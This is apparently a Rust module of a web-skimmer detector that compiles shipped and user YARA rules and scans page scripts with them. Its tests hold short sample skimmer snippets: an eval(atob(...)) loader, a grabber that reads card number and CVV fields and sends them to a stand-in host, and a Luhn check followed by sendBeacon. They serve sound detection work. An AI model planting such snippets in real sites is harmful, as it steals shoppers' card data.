//! YARA rules (yara-x) over script text: skimwatch's own rule set for the documented skimmer
//! families (`intel/yara/skimmers.yar`, built in) and the user's rules from `[intel] rules`
//! (every `*.yar` / `*.yara` file of that folder, not recursively).
//!
//! Rules are compiled once per run. A scan of one script is bounded in bytes
//! ([`MAX_SCAN_BYTES`]) and time ([`SCAN_TIMEOUT`]): the text is the page's.

use super::{file_version, read_bounded, sha256_hex, shipped, IntelError};
use crate::model::IntelVersion;
use std::path::Path;
use std::time::Duration;

/// Bytes of one script the rules see.
pub const MAX_SCAN_BYTES: usize = 2 << 20;
/// Time the rules may take on one script.
pub const SCAN_TIMEOUT: Duration = Duration::from_secs(2);
/// Rule files read from the user's folder, at most.
const MAX_RULE_FILES: usize = 200;

/// The compiled rules.
pub struct Rules {
    rules: yara_x::Rules,
}

impl std::fmt::Debug for Rules {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str("Rules")
    }
}

impl Rules {
    /// The shipped rules (namespace `skimwatch`) and those of `folder` (namespace: the file's
    /// name without extension). A rule file that does not compile is an error naming it.
    pub fn load(folder: Option<&Path>) -> Result<(Rules, Vec<IntelVersion>), IntelError> {
        let mut compiler = yara_x::Compiler::new();
        let mut versions = Vec::new();
        compiler.new_namespace("skimwatch");
        compiler
            .add_source(yara_x::SourceCode::from(shipped::YARA_RULES).with_origin("intel/yara/skimmers.yar"))
            .map_err(|e| IntelError::Invalid { path: "intel/yara/skimmers.yar".into(), message: e.to_string() })?;
        versions.push(IntelVersion {
            name: shipped::YARA_NAME.into(),
            kind: "yara".into(),
            origin: "shipped".into(),
            entries: rule_count(shipped::YARA_RULES),
            sha256: sha256_hex(shipped::YARA_RULES.as_bytes()),
            date: shipped::YARA_DATE.into(),
            ..IntelVersion::default()
        });
        if let Some(folder) = folder {
            let entries =
                std::fs::read_dir(folder).map_err(|source| IntelError::Read { path: folder.to_path_buf(), source })?;
            let mut files: Vec<_> = entries
                .filter_map(|e| e.ok().map(|e| e.path()))
                .filter(|p| p.is_file() && p.extension().is_some_and(|x| x == "yar" || x == "yara"))
                .collect();
            files.sort();
            files.truncate(MAX_RULE_FILES);
            for path in files {
                let text = read_bounded(&path)?;
                let stem = path.file_stem().map(|s| s.to_string_lossy().into_owned()).unwrap_or_default();
                compiler.new_namespace(&stem);
                compiler
                    .add_source(yara_x::SourceCode::from(text.as_str()).with_origin(path.display().to_string()))
                    .map_err(|e| IntelError::Invalid { path: path.clone(), message: e.to_string() })?;
                let name = path.file_name().map(|n| n.to_string_lossy().into_owned()).unwrap_or_default();
                let mut v = file_version(&name, "yara", &path);
                v.entries = rule_count(&text);
                v.sha256 = sha256_hex(text.as_bytes());
                versions.push(v);
            }
        }
        Ok((Rules { rules: compiler.build() }, versions))
    }

    /// `namespace:rule` of every rule matching `source` (its first [`MAX_SCAN_BYTES`]). A scan
    /// over its time is logged and gives what matched so far: nothing.
    pub fn matches(&self, source: &str) -> Vec<String> {
        let mut scanner = yara_x::Scanner::new(&self.rules);
        scanner.set_timeout(SCAN_TIMEOUT);
        let data = crate::text::cut_bytes(source, MAX_SCAN_BYTES).as_bytes();
        match scanner.scan(data) {
            Ok(results) => results.matching_rules().map(|r| format!("{}:{}", r.namespace(), r.identifier())).collect(),
            Err(e) => {
                tracing::warn!("YARA scan of a script stopped: {e}");
                Vec::new()
            }
        }
    }
}

/// Rules in a file, counted by their `rule` keyword at the start of a line.
fn rule_count(text: &str) -> u64 {
    text.lines()
        .filter(|l| {
            let l = l.trim_start();
            let l = l.strip_prefix("private ").or_else(|| l.strip_prefix("global ")).unwrap_or(l);
            l.starts_with("rule ")
        })
        .count() as u64
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn shipped_rules_name_the_skimmer_families_and_spare_plain_code() {
        let (rules, versions) = Rules::load(None).unwrap();
        assert_eq!(versions[0].entries, 3);
        let loader = "var p='ZG9jdW1lbnQ=';eval(atob(p));";
        assert_eq!(rules.matches(loader), ["skimwatch:base64_loader"]);
        let grabber = "var n=document.querySelector('#cc-number').value,c=document.querySelector('[name=cvv]').value;new Image().src='https://x.example/i?d='+btoa(n+c);";
        assert_eq!(rules.matches(grabber), ["skimwatch:card_fields_and_exfiltration"]);
        let luhn = "function ok(n){var s=0,d=false;for(var i=n.length-1;i>=0;i--){var x=+n[i];if(d){x*=2;if(x>9)x-=9}s+=x;d=!d}return s%10===0}if(ok(v))navigator.sendBeacon('/c',v);";
        assert_eq!(rules.matches(luhn), ["skimwatch:luhn_check_then_send"]);
        assert!(rules.matches("document.getElementById('pay').addEventListener('click',submitOrder);").is_empty());
    }

    #[test]
    fn user_rules_load_from_a_folder_and_bad_ones_are_named() {
        let dir = tempfile::tempdir().unwrap();
        std::fs::write(dir.path().join("mine.yar"), "rule our_marker { strings: $a = \"ACME-SKIM\" condition: $a }\n")
            .unwrap();
        std::fs::write(dir.path().join("notes.txt"), "not a rule").unwrap();
        let (rules, versions) = Rules::load(Some(dir.path())).unwrap();
        assert_eq!(versions.iter().map(|v| v.name.as_str()).collect::<Vec<_>>(), ["skimwatch-yara", "mine.yar"]);
        assert_eq!(rules.matches("x='ACME-SKIM'"), ["mine:our_marker"]);
        std::fs::write(dir.path().join("broken.yar"), "rule { nope").unwrap();
        let err = Rules::load(Some(dir.path())).unwrap_err().to_string();
        assert!(err.contains("broken.yar"), "{err}");
    }
}
